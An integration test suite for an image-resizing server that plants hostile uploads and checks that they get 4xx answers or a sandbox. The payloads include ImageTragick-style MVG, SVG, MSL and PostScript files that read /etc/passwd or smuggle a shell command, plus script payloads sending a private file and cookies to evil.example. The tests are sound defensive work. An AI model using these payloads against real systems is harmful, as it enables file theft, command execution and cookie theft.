using System.Net;
using Helium.Imager.IntegrationTests.Infrastructure;

namespace Helium.Imager.IntegrationTests;

/// <summary>Hostile sources stored under innocent names, requested over real HTTP: each gets a clear
/// 4xx, nothing is read or run, and the server goes on serving.</summary>
public sealed class HostileInputTests : IAsyncLifetime
{
    private readonly string _store = Directory.CreateTempSubdirectory("helium-hostile-").FullName;
    private TestServer _server = null!;

    public static TheoryData<string, string> Payloads => new()
    {
        { "mvg-url.jpg", "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'https://127.0.0.1/x.jpg\"|touch \"/tmp/helium-pwned'\npop graphic-context\n" },
        { "mvg-label.png", "push graphic-context\nviewbox 0 0 10 10\nimage over 0,0 0,0 'label:@/etc/passwd'\npop graphic-context\n" },
        { "svg-text.gif", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"10\" height=\"10\"><image xlink:href=\"text:/etc/passwd\" width=\"10\" height=\"10\"/></svg>" },
        { "msl.webp", "<?xml version=\"1.0\"?><image><read filename=\"/etc/passwd\"/><write filename=\"/tmp/helium-pwned.png\"/></image>" },
        { "ps.jpg", "%!PS\n(/etc/passwd) (r) file\nshowpage\n" },
        { "ephemeral.jpg", "ephemeral:/etc/passwd" },
    };

    /// <summary>Stored web content that would run script on this origin if served as a page.</summary>
    public static TheoryData<string, string> ScriptPayloads => new()
    {
        { "portal.html", "<html><body><script>fetch('/photos/private.dcm').then(r => r.blob()).then(b => navigator.sendBeacon('https://evil.example', b))</script></body></html>" },
        { "avatar.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('https://evil.example/?c=' + document.cookie)\"><rect width=\"10\" height=\"10\"/></svg>" },
        { "badge.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"10\" height=\"10\"><body xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(document.domain)</script></body></foreignObject></svg>" },
    };

    public async Task InitializeAsync()
    {
        Directory.CreateDirectory(Path.Combine(_store, "uploads"));
        foreach (var row in Payloads.Concat(ScriptPayloads))
        {
            await File.WriteAllTextAsync(Path.Combine(_store, "uploads", (string)row[0]), (string)row[1]);
        }

        _server = await TestServer.StartAsync(new Dictionary<string, string?> { ["Store:Root"] = _store, ["Cache:Root"] = Path.Combine(_store, ".cache") });
    }

    public async Task DisposeAsync()
    {
        await _server.DisposeAsync();
        Directory.Delete(_store, recursive: true);
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public async Task Imagetragick_style_payloads_are_415_and_read_nothing(string name, string payload)
    {
        using var response = await _server.Client.GetAsync($"/uploads/{name}?w=100");
        using var info = await _server.Client.GetAsync($"/uploads/{name}?info=true");
        using var health = await _server.Client.GetAsync("/healthz");

        Assert.NotEmpty(payload);
        await ProblemAssert.IsProblemAsync(response, HttpStatusCode.UnsupportedMediaType, "unsupported-source");
        await ProblemAssert.IsProblemAsync(info, HttpStatusCode.UnsupportedMediaType, "unsupported-source");
        Assert.DoesNotContain("root:", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.False(File.Exists("/tmp/helium-pwned"));
        Assert.False(File.Exists("/tmp/helium-pwned.png"));
        Assert.Equal(HttpStatusCode.OK, health.StatusCode);
    }

    [Theory]
    [MemberData(nameof(ScriptPayloads))]
    public async Task Stored_pages_and_svg_are_passed_through_sandboxed_and_never_rendered(string name, string payload)
    {
        using var passThrough = await _server.Client.GetAsync($"/uploads/{name}");
        using var rendered = await _server.Client.GetAsync($"/uploads/{name}?w=100");

        Assert.Equal(HttpStatusCode.OK, passThrough.StatusCode);
        Assert.Equal(payload, await passThrough.Content.ReadAsStringAsync());
        Assert.Equal("default-src 'none'; sandbox", string.Join(",", passThrough.Headers.GetValues("Content-Security-Policy")));
        Assert.Equal("attachment", passThrough.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("nosniff", string.Join(",", passThrough.Headers.GetValues("X-Content-Type-Options")));
        await ProblemAssert.IsProblemAsync(rendered, HttpStatusCode.UnsupportedMediaType, "unsupported-source");
    }
}

/// <summary>Crafted bombs, loops, lies and truncations of every supported type, over real HTTP. After
/// each the server answers /healthz and renders a normal thumbnail correctly.</summary>
public sealed class HostileSourceTests : IAsyncLifetime
{
    private readonly string _store = Directory.CreateTempSubdirectory("helium-hostile-src-").FullName;
    private TestServer _server = null!;

    public static TheoryData<string, string> TruncatedFixtures => new()
    {
        { "raster/Landscape_1.jpg", "jpeg" },
        { "raster/16-bit-grey-alpha.png", "png" },
        { "raster/animated-loop-3.gif", "gif" },
        { "raster/4.webp", "webp" },
        { "raster/G31D.TIF", "tiff" },
        { "pdf/pdflatex-4-pages.pdf", "pdf" },
        { "dicom/CT_small.dcm", "dcm" },
        { "dicom/JPEG2000.dcm", "dcm" },
        { "dicom/SC_rgb_jpeg_dcmtk.dcm", "dcm" },
    };

    public async Task InitializeAsync()
    {
        var bucket = Path.Combine(_store, "hostile");
        Directory.CreateDirectory(bucket);
        File.Copy(Fixture.Path("raster/Landscape_1.jpg"), Path.Combine(bucket, "normal.jpg"));
        await File.WriteAllBytesAsync(Path.Combine(bucket, "bomb.png"), HostileFiles.PngBomb());
        await File.WriteAllBytesAsync(Path.Combine(bucket, "ztxt.png"), HostileFiles.PngWithHugeZtxt());
        await File.WriteAllBytesAsync(Path.Combine(bucket, "cyclic.pdf"), HostileFiles.PdfWithCyclicPageTree());
        await File.WriteAllBytesAsync(Path.Combine(bucket, "javascript.pdf"), HostileFiles.PdfWithJavaScript());
        await File.WriteAllBytesAsync(Path.Combine(bucket, "lying-pixels.dcm"), HostileFiles.DicomWithLyingPixelLength());
        await File.WriteAllBytesAsync(Path.Combine(bucket, "lying-element.dcm"), HostileFiles.DicomWithLyingElementLength());
        await File.WriteAllBytesAsync(Path.Combine(bucket, "bad-vr.dcm"), HostileFiles.DicomWithNonStandardVr());
        await File.WriteAllBytesAsync(Path.Combine(bucket, "huge.dcm"), HostileFiles.DicomWithHugeDimensions());
        foreach (var fixture in TruncatedFixtures.Select(row => (string)row[0]).Append("raster/pitm.avif"))
        {
            var bytes = Fixture.Bytes(fixture);
            await File.WriteAllBytesAsync(Path.Combine(bucket, "half-" + Path.GetFileName(fixture)), bytes[..(bytes.Length / 2)]);
        }

        _server = await TestServer.StartAsync(new Dictionary<string, string?>
        {
            ["Store:Root"] = _store,
            ["Cache:Root"] = Path.Combine(_store, ".cache"),
            ["Limits:TransformTimeout"] = "00:00:10",
        });
    }

    public async Task DisposeAsync()
    {
        await _server.DisposeAsync();
        Directory.Delete(_store, recursive: true);
    }

    private async Task StillServesNormally()
    {
        using var health = await _server.Client.GetAsync("/healthz");
        using var thumbnail = await _server.Client.GetAsync($"/hostile/normal.jpg?w={Random.Shared.Next(60, 90)}");
        Assert.Equal(HttpStatusCode.OK, health.StatusCode);
        Assert.Equal(HttpStatusCode.OK, thumbnail.StatusCode);
        using var image = new ImageMagick.MagickImage(await thumbnail.Content.ReadAsByteArrayAsync());
        Assert.InRange((int)image.Width, 60, 90);
    }

    [Theory]
    [InlineData("bomb.png", HttpStatusCode.UnprocessableEntity)]
    [InlineData("lying-pixels.dcm", HttpStatusCode.UnprocessableEntity)]
    [InlineData("lying-element.dcm", HttpStatusCode.UnprocessableEntity)]
    [InlineData("bad-vr.dcm", HttpStatusCode.UnprocessableEntity)]
    [InlineData("huge.dcm", HttpStatusCode.UnprocessableEntity)]
    public async Task Bombs_and_lies_are_refused(string name, HttpStatusCode status)
    {
        using var response = await _server.Client.GetAsync($"/hostile/{name}?w=100");

        Assert.True(status == response.StatusCode, $"{name}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        await StillServesNormally();
    }

    [Theory]
    [InlineData("ztxt.png")]
    [InlineData("cyclic.pdf")]
    [InlineData("javascript.pdf")]
    public async Task Crafted_files_end_in_an_image_or_a_clear_4xx(string name)
    {
        var before = Environment.WorkingSet;
        using var response = await _server.Client.GetAsync($"/hostile/{name}?w=100");

        var status = (int)response.StatusCode;
        Console.WriteLine($"hostile: {name} -> {status}");
        // Not 504: a crafted file that holds a render slot until the deadline is a finding, not a pass.
        Assert.True(status is 200 or 400 or 415 or 422, $"{name}: {status} {await response.Content.ReadAsStringAsync()}");
        if (status != 200)
        {
            Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        }

        await StillServesNormally();
        GC.Collect();
        Assert.True(Environment.WorkingSet - before < 512L * 1024 * 1024, $"working set grew by {(Environment.WorkingSet - before) / (1024 * 1024)} MiB");
    }

    [Fact]
    public async Task Javascript_in_a_pdf_is_not_run()
    {
        // The document's script would fetch a URL on a port this test listens on: no connection may come.
        using var listener = new System.Net.Sockets.TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var name = $"javascript-{port}.pdf";
        await File.WriteAllBytesAsync(Path.Combine(_store, "hostile", name), HostileFiles.PdfWithJavaScript($"http://127.0.0.1:{port}/x"));

        using var response = await _server.Client.GetAsync($"/hostile/{name}?w=100&format=png");
        await Task.Delay(TimeSpan.FromMilliseconds(500));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.False(listener.Pending(), "the PDF's JavaScript connected to the listener");
    }

    [Fact]
    public async Task A_dicom_that_aborts_the_decoder_is_422_and_the_next_dicom_still_renders()
    {
        // Half of a JPEG-compressed DICOM trips an assertion in Debian's GDCM, which aborts its process.
        using var crashing = await _server.Client.GetAsync("/hostile/half-SC_rgb_jpeg_dcmtk.dcm?w=50");
        File.Copy(Fixture.Path("dicom/CT_small.dcm"), Path.Combine(_store, "hostile", "ct.dcm"), overwrite: true);
        using var next = await _server.Client.GetAsync($"/hostile/ct.dcm?w={Random.Shared.Next(40, 60)}");

        await ProblemAssert.IsProblemAsync(crashing, HttpStatusCode.UnprocessableEntity, "unprocessable-source");
        Assert.Equal(HttpStatusCode.OK, next.StatusCode);
    }

    [Fact]
    public async Task Half_an_avif_does_not_hurt_the_server()
    {
        // libheif and dav1d decode what is there without reporting the missing half, so this renders
        // (partly grey) rather than failing; what matters is that the server is unharmed.
        using var response = await _server.Client.GetAsync("/hostile/half-pitm.avif?w=100");

        Console.WriteLine($"hostile: half of raster/pitm.avif -> {(int)response.StatusCode}");
        Assert.True(response.StatusCode is HttpStatusCode.OK or HttpStatusCode.UnprocessableEntity, response.StatusCode.ToString());
        await StillServesNormally();
    }

    [Theory]
    [MemberData(nameof(TruncatedFixtures))]
    public async Task Truncated_files_of_every_type_are_a_clear_4xx(string fixture, string kind)
    {
        using var response = await _server.Client.GetAsync($"/hostile/half-{Path.GetFileName(fixture)}?w=100");

        var status = (int)response.StatusCode;
        Console.WriteLine($"hostile: half of {fixture} -> {status}");
        Assert.True(status is 415 or 422, $"{kind} {fixture}: {status} {await response.Content.ReadAsStringAsync()}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        await StillServesNormally();
    }

    [Theory]
    [InlineData(2000, HttpStatusCode.BadRequest)]
    [InlineData(20000, HttpStatusCode.RequestUriTooLong)]
    public async Task Very_long_keys_and_urls_are_refused(int length, HttpStatusCode status)
    {
        using var response = await _server.Client.GetAsync($"/hostile/{new string('k', length)}.jpg?w=10");

        Assert.Equal(status, response.StatusCode);
        await StillServesNormally();
    }

    [Fact]
    public async Task A_thousand_distinct_transforms_at_once_get_answers_not_a_fall()
    {
        await using var server = await TestServer.StartAsync(new Dictionary<string, string?>
        {
            ["Store:Root"] = _store,
            ["Cache:Root"] = Path.Combine(_store, ".cache-burst"),
            ["Limits:MaxConcurrentTransforms"] = "2",
            ["Limits:QueueLength"] = "8",
        });

        var responses = await Task.WhenAll(Enumerable.Range(0, 1000).Select(i => server.Client.GetAsync($"/hostile/normal.jpg?w={20 + (i % 500)}&quality={50 + (i / 500)}")));

        var statuses = responses.GroupBy(r => (int)r.StatusCode).ToDictionary(g => g.Key, g => g.Count());
        // One client: its share of the queue (Limits:PerClientQueue) runs out before the server's does.
        Assert.True(statuses.Keys.All(s => s is 200 or 429 or 503), string.Join(", ", statuses.Select(kv => $"{kv.Key}: {kv.Value}")));
        Assert.True(statuses.GetValueOrDefault(429) > 0, "the per-client limit never answered 429");
        Assert.True(statuses.GetValueOrDefault(200) > 0);
        Assert.All(responses.Where(r => r.StatusCode is HttpStatusCode.ServiceUnavailable or HttpStatusCode.TooManyRequests), r => Assert.NotNull(r.Headers.RetryAfter));
        foreach (var response in responses)
        {
            response.Dispose();
        }

        using var after = await server.Client.GetAsync("/hostile/normal.jpg?w=77");
        Assert.Equal(HttpStatusCode.OK, after.StatusCode);
    }
}
